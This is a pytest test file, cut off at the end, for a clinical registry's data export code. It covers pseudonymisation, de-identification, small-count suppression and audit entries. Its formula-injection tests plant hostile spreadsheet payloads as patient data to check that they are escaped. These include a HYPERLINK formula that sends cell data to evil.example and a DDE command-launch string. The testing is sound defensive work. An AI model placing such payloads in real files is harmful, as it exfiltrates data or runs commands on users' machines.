"""Exports (outcomes/exports.py): de-identification, dataset content, suppression, formats, formula
injection, audit entries and the ``export`` command."""

from __future__ import annotations

import hashlib
import hmac
import io
import json
import re
import zipfile
from datetime import date, timedelta

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from outcomes import auth, disclosure, exports, storage
from outcomes.cli import main
from outcomes.errors import PermissionDenied, ValidationError
from outcomes.settings import load_settings
from tests.export_helpers import (END, NOW, PLANT, PLANT_DAYS, SECRET, build_planted, date_spellings,
                                  file_texts, plant_dates, read_tables)

SETTINGS = load_settings({})
DEIDENTIFIED = [("dataset", "csv"), ("dataset", "xlsx"), ("dataset", "parquet"), ("summary", "csv"),
                ("summary", "xlsx"), ("fhir", "json")]


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    from argon2 import PasswordHasher

    with pytest.MonkeyPatch.context() as mp:  # cheap password hashes for the accounts
        mp.setattr(auth, "HASHER", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
        return build_planted(tmp_path_factory.mktemp("exports") / "planted.db", n_synthetic=150)


@pytest.fixture(scope="module")
def source(planted):
    db = planted.open()
    yield exports.load_source(db)
    db.close()


def build(source, kind, fmt, **kwargs):
    kwargs.setdefault("settings", SETTINGS)
    kwargs.setdefault("as_of", END)
    return exports.build(source, kind, fmt, generated_at=NOW, **kwargs)


# Small rules -----------------------------------------------------------------------------------------


def test_pseudonym_is_a_keyed_hash_truncated_to_16_hex_digits():
    expected = hmac.new(SECRET.encode(), b"P001", hashlib.sha256).hexdigest()[:16]
    assert exports.pseudonym(SECRET, "P001") == "ps_" + expected
    assert exports.pseudonym(SECRET, "P001") == exports.pseudonym(SECRET, "P001")        # stable
    assert exports.pseudonym("another secret", "P001") != exports.pseudonym(SECRET, "P001")
    # Without the secret, the clinic's ID does not give the pseudonym (plain hashes of the ID are not it).
    for plain in (hashlib.sha256(b"P001").hexdigest(), hashlib.md5(b"P001").hexdigest()):
        assert plain[:16] not in exports.pseudonym(SECRET, "P001")


def test_every_database_has_its_own_secret(db):
    other = storage.connect(":memory:")
    assert len(storage.get_meta(db, "secret")) == 64
    assert storage.get_meta(db, "secret") != storage.get_meta(other, "secret")


@pytest.mark.parametrize("cell", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://x")'])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(cell):
    assert exports.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["P001", "-3.5", "+2", "12", "ps_0123", "", "a=b", None, 3.0])
def test_harmless_cells_are_unchanged(cell):
    assert exports.neutralise(cell) == cell


# No identifier survives a de-identified export ----------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("kind, fmt", DEIDENTIFIED)
def test_no_identifier_of_the_data_model_survives(source, planted, kind, fmt):
    file = build(source, kind, fmt)
    texts = file_texts(file.data, file.filename)
    assert texts and all(texts.values())
    everything = "\n".join(texts.values())
    forbidden = [*planted.patient_ids, str(PLANT["birth_year"]), PLANT["note"], PLANT["staff"],
                 PLANT["username"], PLANT["email"], PLANT["display_name"], SECRET, "cleo.clinician",
                 "ada.admin", PLANT["reason"], PLANT["description"], "record_changes"]
    forbidden += [s for d in plant_dates() for s in date_spellings(d)]
    # A number is searched as a token: in megabytes of hex ids "1929" occurs by chance, "…f1929e…" is no year.
    leaked = [f for f in forbidden if (re.search(rf"(?<![0-9a-fA-F]){f}(?![0-9a-fA-F])", everything)
                                       if f.isdigit() else f in everything)]
    assert leaked == []
    # No calendar date at all outside the README (which states the data cut) and Excel's file properties.
    data_parts = {k: v for k, v in texts.items() if k != "README.txt" and not k.startswith("docProps")
                  and not k.endswith("sheet1.xml")}  # sheet1 = the README sheet
    # (The Bundle's timestamp is when the file was made, not a date of anybody's care.)
    dated = {k: re.findall(r"(?:19|20)\d\d-\d\d-\d\d", re.sub(r'"timestamp":"[^"]*"', "", v))
             for k, v in data_parts.items()}
    assert {k: v for k, v in dated.items() if v} == {}
    if kind != "summary":  # the planted patient is there, under a pseudonym
        assert exports.pseudonym(SECRET, PLANT["patient_id"]) in everything


@pytest.mark.slow
def test_excel_data_sheets_hold_no_dates(source):
    file = build(source, "dataset", "xlsx")
    book = load_workbook(io.BytesIO(file.data))
    assert book.sheetnames == ["README", "episodes", "scores"]
    for name in ("episodes", "scores"):
        values = [c.value for row in book[name].iter_rows() for c in row]
        assert not any(isinstance(v, (date, pd.Timestamp)) for v in values)


# Dataset content --------------------------------------------------------------------------------------


@pytest.mark.slow
def test_deidentified_dataset_content(source):
    tables = build(source, "dataset", "csv").tables
    me = exports.pseudonym(SECRET, PLANT["patient_id"])
    episode = tables["episodes"].set_index("pseudonym").loc[me]
    assert (episode["age_band"], episode["sex"], episode["diagnosis"]) == ("90+", "F", PLANT["diagnosis"])
    assert episode["last_infusion_day"] == 4 and pd.isna(episode["next_episode_day"])
    # Every episode in a de-identified file has closed: no flag that dates it by when it closed.
    assert not [c for c in tables["episodes"] if c.endswith("_closed")]
    assert "notes" not in tables["episodes"] and "birth_year" not in tables["episodes"]
    assert "diagnosis_note" not in tables["episodes"]
    mine = tables["scores"][tables["scores"]["pseudonym"] == me]
    assert mine["day"].tolist() == list(PLANT_DAYS)
    assert mine.set_index("day")["used_as"].to_dict() == {-7: "", 0: "baseline", 4: "end_of_series",
                                                          31: "month_1", 90: "month_3"}
    assert mine["t_score"].tolist() == [71.3, 70.7, 64.1, 62.2, 66.6]
    assert set(tables["scores"].columns) == {"pseudonym", "episode", "domain", "day", "t_score", "se", "form",
                                             "method", "source", "used_as"}


@pytest.mark.slow
def test_deidentified_rows_are_in_pseudonym_order_not_the_clinics_id_order(source):
    tables = build(source, "dataset", "parquet").tables
    for table in tables.values():
        assert table["pseudonym"].is_monotonic_increasing
    subjects = [e["resource"]["subject"]["identifier"]["value"]
                for e in json.loads(build(source, "fhir", "json").data)["entry"]]
    assert subjects == sorted(subjects)


def test_a_score_belongs_to_each_episode_whose_span_it_falls_in(source):
    # Follow-up of an episode ends the day before the next series; a score before the next series' start
    # within the baseline period is both the earlier episode's follow-up and the later one's baseline.
    series = source.series
    repeat = series[series["series_number"] == 2].iloc[0]
    tables = build(source, "dataset", "csv").tables
    eps = tables["episodes"]
    me = exports.pseudonym(SECRET, repeat["patient_id"])
    first = eps[(eps["pseudonym"] == me) & (eps["episode"] == 1)].iloc[0]
    gap = (repeat["first_infusion"] - series[(series["patient_id"] == repeat["patient_id"])
                                             & (series["series_number"] == 1)]["first_infusion"].iloc[0]).days
    assert first["next_episode_day"] == gap
    scores = tables["scores"][tables["scores"]["pseudonym"] == me]
    assert scores[scores["episode"] == 1]["day"].max() < gap
    assert scores[scores["episode"] == 2]["day"].min() >= -SETTINGS.baseline_days


def test_rare_diagnoses_and_protocols_are_pooled(planted, tmp_path):
    db = planted.open()
    src = exports.load_source(db)
    db.close()
    mine = src.patients["patient_id"] == PLANT["patient_id"]
    rare = src.patients.assign(
        diagnosis_label=np.where(mine, "Erythromelalgia", src.patients["diagnosis_label"]),
        diagnosis=np.where(mine, "Erythromelalgia, Jane Roe 555-0100", src.patients["diagnosis"]))
    file = build(exports.Source(rare, src.series, src.assessments, SECRET), "dataset", "csv")
    me = exports.pseudonym(SECRET, PLANT["patient_id"])
    assert file.tables["episodes"].set_index("pseudonym").loc[me, "diagnosis"] == "Other (pooled)"
    assert "Erythromelalgia" not in "\n".join(file_texts(file.data, file.filename).values())
    assert any("pooled" in n for n in file.notes)


@pytest.mark.slow
def test_the_diagnosis_is_the_code_never_the_free_text_note(planted):
    """Finding 2: the free-text note (it may hold a name or a phone number) is in identified files only."""
    db = planted.open()
    src = exports.load_source(db)
    db.close()
    noted = src.patients.assign(diagnosis="CRPS, call Jane Roe 555-0100")   # the same note for everybody
    source = exports.Source(noted, src.series, src.assessments, SECRET)
    for kind, fmt in DEIDENTIFIED:
        file = build(source, kind, fmt)
        assert "Jane Roe" not in "\n".join(file_texts(file.data, file.filename).values()), (kind, fmt)
    deidentified = build(source, "dataset", "csv").tables["episodes"]
    assert set(deidentified["diagnosis"]) <= set(storage.DIAGNOSIS_SEED) | {"Not coded", "Other (pooled)"}
    identified = build(source, "dataset", "csv", deidentified=False).tables["episodes"]
    assert set(identified["diagnosis_note"]) == {"CRPS, call Jane Roe 555-0100"}
    assert identified.set_index("patient_id").loc[PLANT["patient_id"], "diagnosis"] == PLANT["diagnosis"]


def test_identified_dataset_keeps_ids_dates_and_notes(source):
    tables = build(source, "dataset", "csv", deidentified=False).tables
    episode = tables["episodes"].set_index("patient_id").loc[PLANT["patient_id"]]
    assert episode["birth_year"] == PLANT["birth_year"] and PLANT["note"] in episode["notes"]
    assert episode["first_infusion"] == pd.Timestamp(PLANT["first_infusion"])
    mine = tables["scores"][tables["scores"]["patient_id"] == PLANT["patient_id"]]
    days = [PLANT["first_infusion"] + timedelta(days=d) for d in PLANT_DAYS]
    assert mine["assessed_on"].dt.date.tolist() == days


def test_data_after_the_cut_is_left_out(source):
    cut = PLANT["first_infusion"] + timedelta(days=10)
    file = exports.build(source, "dataset", "csv", deidentified=False, as_of=cut, settings=SETTINGS,
                         generated_at=NOW)
    assert file.tables["episodes"]["first_infusion"].max() <= pd.Timestamp(cut)
    mine = file.tables["scores"][file.tables["scores"]["patient_id"] == PLANT["patient_id"]]
    assert mine["day"].tolist() == [-7, 0, 4]
    assert not file.tables["episodes"].set_index("patient_id").loc[PLANT["patient_id"], "month_1_closed"]


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_every_format_holds_the_same_tables(source, fmt):
    file = build(source, "dataset", fmt)
    tables = read_tables(file.data, file.filename)
    assert set(tables) == {"episodes", "scores"}
    for name, expected in file.tables.items():
        got = tables[name]
        assert got.columns.tolist() == expected.columns.tolist() and len(got) == len(expected)
        assert got["pseudonym"].tolist() == expected["pseudonym"].tolist()
        t = pd.to_numeric(got["t_score"] if name == "scores" else got["infusions"])
        assert np.allclose(t, expected["t_score" if name == "scores" else "infusions"].astype(float))
    assert file.rows == sum(len(t) for t in file.tables.values())


def test_csv_is_utf8_with_iso_dates_and_a_readme(source):
    file = build(source, "dataset", "csv", deidentified=False)
    with zipfile.ZipFile(io.BytesIO(file.data)) as archive:
        assert sorted(archive.namelist()) == ["README.txt", "episodes.csv", "record_changes.csv",
                                              "scores.csv"]
        text = archive.read("scores.csv").decode("utf-8")
        readme = archive.read("README.txt").decode("utf-8")
    assert not text.startswith("\ufeff")
    assert re.search(r"\r\n" + re.escape(PLANT["patient_id"]) + r",1,2023-02-06,-7,", text)
    assert "IDENTIFIED" in readme and "as_of: 2025-06-01" in readme
    assert "pseudonym" not in readme.split("Columns")[-1]


# The corrected record: voids, plans, cancellations, corrections, dispositions -----------------------------


def _tables(source, kind="dataset", **kwargs):
    file = build(source, kind, "csv", **kwargs)
    return file.tables


@pytest.mark.slow
def test_planned_cancelled_and_voided_series_are_not_episodes(planted, source):
    db = planted.open()
    every = storage.load_series(db, PLANT["patient_id"], every=True)
    assert sorted(zip(every["state"], every["voided"])) == [("cancelled", False), ("given", False),
                                                             ("given", True), ("planned", False)]
    # The plan called off a week before the first infusion would otherwise be episode 1 and day 0, the plan
    # never given and the voided series episodes 2 and 3 (ending the first episode's follow-up).
    mine = source.series[source.series["patient_id"] == PLANT["patient_id"]]
    assert mine["first_infusion"].tolist() == [pd.Timestamp(PLANT["first_infusion"])]
    identified = _tables(source, deidentified=False)["episodes"].set_index("patient_id")
    first = pd.Timestamp(PLANT["first_infusion"])
    assert identified.loc[[PLANT["patient_id"]], "first_infusion"].tolist() == [first]
    me = exports.pseudonym(SECRET, PLANT["patient_id"])
    episode = _tables(source)["episodes"].set_index("pseudonym").loc[[me]]
    assert episode["episode"].tolist() == [1] and episode["next_episode_day"].isna().all()
    # Summary tables: every series given and released counts in the all-series analysis set, nothing else.
    t1 = _tables(source, "summary", series="all")["table1"].set_index(["characteristic", "value"])
    n = int(t1.loc[("Episodes", "analysis set"), "n"])
    everything = storage.load_series(db, every=True)
    given = (everything["state"] == "given") & ~everything["voided"]
    assert len(source.series) == given.sum() and len(everything) - given.sum() >= 3
    released, _ = exports.released(source, pd.Timestamp("2025-05-31"), SETTINGS)
    assert n == len(released) and set(released["series_id"]) <= set(source.series["series_id"])
    db.close()


def test_voided_and_replaced_scores_are_left_out_and_a_corrected_score_appears_once(planted, source):
    db = planted.open()
    every = storage.load_assessments(db, patient_id=PLANT["patient_id"], include_superseded=True)
    first = pd.Timestamp(PLANT["first_infusion"])
    voided = first + pd.Timedelta(days=PLANT["voided_score_day"])
    misdated = first + pd.Timedelta(days=PLANT["misdated_score_day"])
    assert every.loc[every["assessed_on"] == voided, "voided_at"].notna().all()
    assert every.loc[every["assessed_on"] == misdated, "superseded_by"].notna().all()
    db.close()
    expected = [first + pd.Timedelta(days=d) for d in PLANT_DAYS]   # day 90 once, as corrected; no day 60, 91
    mine = source.assessments[source.assessments["patient_id"] == PLANT["patient_id"]]
    assert mine["assessed_on"].tolist() == expected
    scores = _tables(source, deidentified=False)["scores"]
    assert scores.loc[scores["patient_id"] == PLANT["patient_id"], "assessed_on"].tolist() == expected
    me = exports.pseudonym(SECRET, PLANT["patient_id"])
    scores = _tables(source)["scores"]
    assert scores.loc[scores["pseudonym"] == me, "day"].tolist() == list(PLANT_DAYS)
    assert 79.9 not in scores.loc[scores["pseudonym"] == me, "t_score"].tolist()      # the voided score


def test_a_corrected_t_score_is_exported_once_with_its_corrected_value(db):
    storage.set_meta(db, "secret", SECRET)
    storage.add_patient(db, patient_id="P001", entered_by="x", today=END)
    storage.add_series(db, patient_id="P001", first_infusion="2025-01-06", last_infusion="2025-01-10",
                       infusions=5, entered_by="x", today=END)
    old = storage.save_assessment(db, patient_id="P001", assessed_on="2025-02-06", domain="depression",
                                  t_score=50.0, method="imported", source="import", entered_by="x", today=END)
    storage.correct_record(db, "assessment", old, changes={"t_score": 55.5}, reason="typed 50.0", by="x",
                           today=END)
    source = exports.load_source(db)
    later = date(2026, 12, 31)  # the episode (closed 2025-08-22) is released by then, whatever its delay
    for deidentified in (True, False):
        scores = build(source, "dataset", "csv", deidentified=deidentified, as_of=later).tables["scores"]
        assert scores[["day", "t_score"]].values.tolist() == [[31, 55.5]]
        bundle = json.loads(build(source, "fhir", "json", deidentified=deidentified, as_of=later).data)
        assert [e["resource"]["valueQuantity"]["value"] for e in bundle["entry"]] == [55.5]


def test_identified_episodes_carry_the_disposition_with_its_date_and_reason(source):
    episodes = _tables(source, deidentified=False)["episodes"].set_index("patient_id")
    mine = episodes.loc[PLANT["patient_id"]]
    assert mine["disposition"] == PLANT["disposition"]
    assert mine["disposition_on"] == pd.Timestamp(PLANT["disposition_on"])
    assert mine["disposition_reason"] == f"{PLANT['reason']} moved away"
    patients = source.patients.set_index("patient_id")
    assert episodes["disposition"].tolist() == episodes.index.map(patients["disposition"]).tolist()
    active = episodes["disposition"] == "active"
    assert episodes.loc[active, "disposition_on"].isna().all() and active.sum() > 100


def test_deidentified_episodes_carry_the_disposition_category_only(source):
    me = exports.pseudonym(SECRET, PLANT["patient_id"])
    # Withdrawn on 2025-03-14: released with the patient's delay like the episodes, so a file cut at the end
    # of 2024 still says active, and one cut two years on says withdrawn; never the date or the reason.
    assert _tables(source)["episodes"].set_index("pseudonym").loc[me, "disposition"] == "active"
    episodes = _tables(source, as_of=date(2026, 12, 31))["episodes"]
    assert "disposition_on" not in episodes and "disposition_reason" not in episodes
    assert episodes.set_index("pseudonym").loc[me, "disposition"] == PLANT["disposition"]
    assert set(episodes["disposition"]) <= set(storage.DISPOSITIONS)
    assert (episodes["disposition"] == "active").any()


def test_identified_dataset_carries_the_record_changes(planted, source):
    changes = _tables(source, deidentified=False)["record_changes"]
    assert changes.columns.tolist() == list(exports.CHANGE_COLUMNS)
    db = planted.open()
    stored = storage.load_record_changes(db)
    db.close()
    assert len(changes) == len(stored) > 0
    for column in ("at", "actor", "patient_id", "record", "record_id", "action", "reason"):
        assert changes[column].tolist() == stored[column].tolist(), column
    # before and after as JSON text, the same values as the stored trail
    assert [json.loads(v) for v in changes["before"]] == stored["before"].tolist()
    assert [json.loads(v) for v in changes["after"]] == stored["after"].tolist()
    mine = changes[changes["patient_id"] == PLANT["patient_id"]].reset_index(drop=True)
    assert mine["action"].tolist() == ["correct", "cancel", "correct", "void", "correct", "void",
                                       "disposition"]
    assert mine["record"].tolist() == ["patient", "series", "adverse_event", "series", "assessment",
                                       "assessment", "patient"]
    assert set(mine["actor"]) == {PLANT["staff"]} and mine["reason"].str.startswith(PLANT["reason"]).all()
    assert json.loads(mine["before"].iloc[0]) == {"enrolled_on": PLANT["enrolled_typo"].isoformat()}
    assert json.loads(mine["after"].iloc[2]) == {"description": f"{PLANT['description']} event"}
    assert json.loads(mine["after"].iloc[6])["disposition_on"] == PLANT["disposition_on"].isoformat()


def test_an_identified_dataset_without_changes_has_an_empty_trail(source):
    bare = exports.Source(source.patients, source.series, source.assessments, SECRET)
    changes = build(bare, "dataset", "parquet", deidentified=False).tables["record_changes"]
    assert changes.empty and changes.columns.tolist() == list(exports.CHANGE_COLUMNS)


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_every_identified_format_holds_the_record_changes_and_its_readme_lists_them(source, fmt):
    file = build(source, "dataset", fmt, deidentified=False)
    tables = read_tables(file.data, file.filename)
    assert set(tables) == {"episodes", "scores", "record_changes"}
    got, expected = tables["record_changes"], file.tables["record_changes"]
    assert got.columns.tolist() == list(exports.CHANGE_COLUMNS)
    for column in ("actor", "patient_id", "record", "action", "before", "after", "reason"):
        assert got[column].astype(str).tolist() == expected[column].tolist(), column
    assert pd.to_numeric(got["record_id"]).tolist() == expected["record_id"].tolist()
    at = pd.to_datetime(got["at"])
    at = at.dt.tz_localize("UTC") if at.dt.tz is None else at.dt.tz_convert("UTC")   # Excel: UTC, no zone
    assert ((at - expected["at"]).abs() < pd.Timedelta(milliseconds=1)).all()       # Excel keeps milliseconds
    readme = _readme_of(file)
    assert readme["record_changes"] == exports.TABLES["record_changes"]
    assert "not cut at as_of" in readme["record_changes"]
    for column in ("at", "actor", "record", "record_id", "action", "before", "after", "reason",
                   "disposition", "disposition_on", "disposition_reason"):
        assert readme[column] == exports.DEFINITIONS[column], column


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_deidentified_dataset_never_carries_the_record_changes(source, fmt):
    file = build(source, "dataset", fmt)
    assert set(file.tables) == set(read_tables(file.data, file.filename)) == {"episodes", "scores"}
    readme = _readme_of(file)
    assert "record_changes" not in readme and {"episodes", "scores", "disposition"} <= set(readme)
    trail = {"at", "actor", "before", "after", "reason", "disposition_on", "disposition_reason"}
    assert not trail & set(readme)


@pytest.mark.slow
def test_every_readme_says_that_the_export_follows_the_corrected_record(source):
    for kind, deidentified in (("dataset", True), ("dataset", False), ("summary", True)):
        readme = _readme_of(build(source, kind, "xlsx", deidentified=deidentified))
        assert readme["records"].startswith("as corrected: voided records, planned and cancelled series")


def _readme_of(file):
    """The README of an exported file as {key: value} (README.txt of a ZIP, or the README sheet)."""
    if file.format == "xlsx":
        book = load_workbook(io.BytesIO(file.data))
        return {r[0].value: r[1].value for r in book["README"].iter_rows() if r[0].value}
    text = zipfile.ZipFile(io.BytesIO(file.data)).read("README.txt").decode()
    return dict(line.split(": ", 1) for line in text.splitlines() if ": " in line)


# Summary tables and suppression -------------------------------------------------------------------------


def _visible(values):
    return pd.to_numeric(pd.Series(values), errors="coerce")


def test_summary_tables_suppress_small_cells_and_their_complements(source):
    tables = build(source, "summary", "csv").tables
    assert set(tables) == {"responders", "completion", "table1"}
    marker = disclosure.small_marker(SETTINGS.small_cell_max)
    for name, spec in (("responders", disclosure.RESPONDER_SPEC), ("completion", disclosure.COMPLETION_SPEC),
                       ("table1", exports.TABLE1_SPEC)):
        table = tables[name]
        for column in spec.counts:
            shown = _visible(table[column])
            assert not shown.between(1, SETTINGS.small_cell_max).any(), (name, column)
    r = tables["responders"]
    for total, part in (("n_eligible", "n_observed"), ("n_observed", "n_improved")):
        diff = _visible(r[total]) - _visible(r[part])
        assert not diff.between(1, SETTINGS.small_cell_max).any()
    t1 = tables["table1"]
    assert (t1["n"] == marker).any() and (t1["n"] == disclosure.HIDDEN).any()  # primary and complementary
    for _, block in t1[t1["characteristic"] != "Episodes"].groupby("characteristic"):
        total = _visible(block.loc[block["value"] == "All", "n"]).iloc[0]
        parts = block[block["value"] != "All"]
        hidden = parts[_visible(parts["n"]).isna()]
        unknown = total - _visible(parts["n"]).sum()
        assert len(hidden) != 1, block          # a single hidden part would be total minus the others
        assert not 1 <= unknown <= SETTINGS.small_cell_max or len(hidden) == 0, block
        # a percentage is shown only with its count
        assert (parts.loc[_visible(parts["n"]).isna(), "percent"] == disclosure.HIDDEN).all()


@pytest.mark.slow
@settings(max_examples=60, deadline=None)
@given(sexes=st.lists(st.sampled_from(["F", "M", "X", None]), min_size=1, max_size=80),
       diagnoses=st.data(), threshold=st.sampled_from([5, 10]))
def test_table_one_never_shows_or_gives_away_a_small_count(sexes, diagnoses, threshold):
    n = len(sexes)
    dx = diagnoses.draw(st.lists(st.sampled_from(["A", "B", "C", None]), min_size=n, max_size=n))
    episodes = pd.DataFrame({"series_id": range(n), "sex": sexes, "diagnosis": dx, "birth_year": 1970,
                             "first_infusion": pd.Timestamp("2025-01-06")})
    baselines = pd.DataFrame({"domain": "depression", "baseline_t": [50.0 + i % 7 if i % 3 else np.nan
                                                                     for i in range(n)]})
    table = exports.publish_table_one(exports.table_one(episodes, baselines, threshold=threshold),
                                      threshold=threshold)
    shown = _visible(table["n"])
    assert not shown.between(1, threshold).any()
    for name, block in table[table["characteristic"] != "Episodes"].groupby("characteristic"):
        total = _visible(block.loc[block["value"] == "All", "n"]).iloc[0]
        parts = _visible(block.loc[block["value"] != "All", "n"])
        if np.isnan(total):
            continue  # the total is hidden too: only "total minus hidden parts" is unknown
        hidden = parts.isna().sum()
        assert hidden != 1, (name, block)
        assert not 1 <= total - parts.sum() <= threshold or hidden == 0, (name, block)


def test_table_one_describes_the_analysis_set(source):
    t1 = build(source, "summary", "csv").tables["table1"].set_index(["characteristic", "value"])
    n = int(t1.loc[("Episodes", "analysis set"), "n"])
    released, _ = exports.released(source, pd.Timestamp("2025-05-31"), SETTINGS)
    assert n == released["series_number"].eq(1).sum() > 0
    ages = t1.loc[("Age, years", "with a birth year")]
    assert 40 < float(ages["mean"]) < 60 and 5 < float(ages["sd"]) < 25
    base = t1.loc[("Baseline T, depression", "with a baseline score")]
    assert 45 < float(base["mean"]) < 75                       # a mean stays when its count is a complement
    assert t1.loc[("Age band", "90+"), "n"] == disclosure.small_marker(10)   # the planted 94-year-old


def test_the_threshold_is_the_setting(source):
    strict = build(source, "summary", "csv", settings=load_settings({"OUTCOMES_SMALL_CELL_MAX": "5"}))
    t1 = strict.tables["table1"]
    assert "≤5" in t1["n"].tolist() and "≤10" not in t1["n"].tolist()
    readme = zipfile.ZipFile(io.BytesIO(strict.data)).read("README.txt").decode()
    assert "≤5: a count from 1 to 5" in readme


def test_a_tiny_cohort_shows_nothing_but_markers(planted):
    db = planted.open()
    src = exports.load_source(db)
    db.close()
    mine = src.series[src.series["patient_id"] == PLANT["patient_id"]]
    tables = build(exports.Source(src.patients, mine, src.assessments, SECRET), "summary", "csv").tables
    t1 = tables["table1"]
    assert set(t1["n"]) <= {"≤10", "*", "0"} and set(t1["mean"]) <= {"*", ""}
    assert not tables["responders"]["n_improved"].isin([str(i) for i in range(1, 11)]).any()


def test_summary_workbook_has_a_readme_and_a_formatted_sheet_per_table(source):
    file = build(source, "summary", "xlsx")
    book = load_workbook(io.BytesIO(file.data))
    assert book.sheetnames == ["README", "responders", "completion", "table1"]
    readme = {r[0].value: r[1].value for r in book["README"].iter_rows()}
    assert readme["as_of"].startswith("2025-05: data through the end of May 2025")
    assert "depression 3.5" in readme["meaningful change"]
    assert readme["≤10"] == "a count from 1 to 10 (zero is shown as 0)" and "*" in readme
    sheet = book["responders"]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    header = [c.value for c in sheet[1]]
    observed = [sheet.cell(r, header.index("n_observed") + 1).value for r in range(2, sheet.max_row + 1)]
    assert any(isinstance(v, int) for v in observed)          # a shown count is a number, not text
    assert all(isinstance(v, int) or v in ("≤10", "*") for v in observed)
    markers = {c.value for row in book["table1"].iter_rows(min_row=2) for c in row}
    assert {"≤10", "*"} <= markers


def test_summary_is_never_identified(source):
    with pytest.raises(ValidationError, match="always de-identified"):
        build(source, "summary", "csv", deidentified=False)
    with pytest.raises(ValidationError, match="comes as csv, xlsx"):
        build(source, "summary", "parquet")


# Formula injection ---------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd",
           "@SUM(1+1)*cmd", "\t=1+1", "\r=2+2"]


@pytest.fixture
def hostile_source(db):
    storage.set_meta(db, "secret", SECRET)
    for i, pid in enumerate(HOSTILE):
        clean = pid.strip()  # identifiers are stored stripped; the note keeps the raw text
        storage.add_patient(db, patient_id=clean if clean else f"X{i}", diagnosis="=1+1", sex="F",
                            birth_year=1970, entered_by="x", today=END)
        storage.add_series(db, patient_id=clean, first_infusion="2025-01-06", last_infusion="2025-01-10",
                           infusions=5, notes=pid, protocol="@protocol", entered_by="x", today=END)
        storage.save_assessment(db, patient_id=clean, assessed_on="2025-01-06", domain="depression",
                                t_score=60, method="imported", source="import", entered_by="x", today=END)
        # A free-text reason: in the disposition and in the record's trail (stored stripped).
        storage.set_disposition(db, clean, disposition="withdrawn", on="2025-02-03", reason=pid, by="x",
                                today=END)
    return exports.load_source(db)


def test_hostile_ids_and_notes_cannot_become_formulas_in_csv(hostile_source):
    file = build(hostile_source, "dataset", "csv", deidentified=False)
    with zipfile.ZipFile(io.BytesIO(file.data)) as archive:
        episodes = pd.read_csv(io.BytesIO(archive.read("episodes.csv")), dtype=str, keep_default_na=False)
        changes = pd.read_csv(io.BytesIO(archive.read("record_changes.csv")), dtype=str,
                              keep_default_na=False)
    for table, columns in ((episodes, ("patient_id", "diagnosis_note", "protocol", "notes",
                                       "disposition_reason")),
                           (changes, exports.CHANGE_COLUMNS)):
        for column in columns:
            for cell in table[column]:
                assert not cell.startswith(exports.FORMULA_TRIGGERS), (column, cell)
    assert set(episodes["diagnosis_note"]) == {"'=1+1"} and set(episodes["protocol"]) == {"'@protocol"}
    hostile = sorted("'" + p.strip() for p in HOSTILE)
    assert sorted(episodes["patient_id"]) == sorted(episodes["disposition_reason"]) == hostile
    assert sorted(changes["patient_id"]) == sorted(changes["reason"]) == hostile


def test_hostile_ids_and_notes_cannot_become_formulas_in_excel(hostile_source):
    file = build(hostile_source, "dataset", "xlsx", deidentified=False)
    with zipfile.ZipFile(io.BytesIO(file.data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)   # no formula cell anywhere
    book = load_workbook(io.BytesIO(file.data))
    for name in ("episodes", "record_changes"):
        cells = [c for row in book[name].iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
        assert cells and all(c.data_type == "s" for c in cells)
        assert not [c.value for c in cells if c.value.startswith(exports.FORMULA_TRIGGERS)]
    reasons = [row[-1].value for row in book["record_changes"].iter_rows(min_row=2)]
    assert sorted(reasons) == sorted("'" + p.strip() for p in HOSTILE)


def test_deidentified_export_pools_a_hostile_rare_diagnosis(hostile_source):
    file = build(hostile_source, "dataset", "csv", as_of=date(2026, 12, 31))
    # 6 patients, not coded (the note is no code) and so few that even "Not coded" is pooled; no note.
    assert set(file.tables["episodes"]["diagnosis"]) == {"Other (pooled)"}
    assert len(file.tables["episodes"]) == 6
    assert "=1+1" not in "\n".join(file_texts(file.data, file.filename).values())


# The export entry point: roles, reason, audit -------------------------------------------------------------


def _exports_logged(db):
    return storage.load_audit_log(db, action="export")


def test_export_writes_one_audit_entry_with_filters_and_level(planted):
    db = planted.open()
    before = len(_exports_logged(db))
    file = exports.export(db, planted.users["qi"], "summary", "xlsx", as_of=END, series="all",
                          settings=SETTINGS, now=NOW)
    log = _exports_logged(db)
    assert len(log) == before + 1
    entry = log.iloc[0]
    assert entry["actor"] == "quinn.qi" and pd.isna(entry["patient_id"])
    assert json.loads(entry["details"]) == {
        "what": "summary (de-identified)", "rows": file.rows, "deidentified": True, "format": "xlsx",
        "filters": {"as_of": "2025-05-31", "series": "all"}}


@pytest.mark.slow
@pytest.mark.parametrize("kind, fmt, deidentified", [*[(k, f, True) for k, f in DEIDENTIFIED],
                                                     ("dataset", "csv", False), ("dataset", "xlsx", False),
                                                     ("dataset", "parquet", False), ("fhir", "json", False)])
def test_every_export_writes_exactly_one_audit_entry(planted, kind, fmt, deidentified):
    db = planted.open()
    before = storage.load_audit_log(db)
    file = exports.export(db, planted.users["clinician"], kind, fmt, deidentified=deidentified, as_of=END,
                          reason=None if deidentified else "registry submission", settings=SETTINGS, now=NOW)
    after = storage.load_audit_log(db)
    assert len(after) == len(before) + 1          # nothing else: reading the trail writes no audit entry
    entry = after.iloc[0]
    assert entry["action"] == "export" and entry["actor"] == "cleo.clinician"
    details = json.loads(entry["details"])
    assert (details["rows"], details["deidentified"], details["format"]) == (file.rows, deidentified, fmt)
    db.close()


@pytest.mark.slow
def test_identified_export_needs_a_reason_and_a_clinical_role(planted):
    db = planted.open()
    before = len(_exports_logged(db))
    with pytest.raises(PermissionDenied):
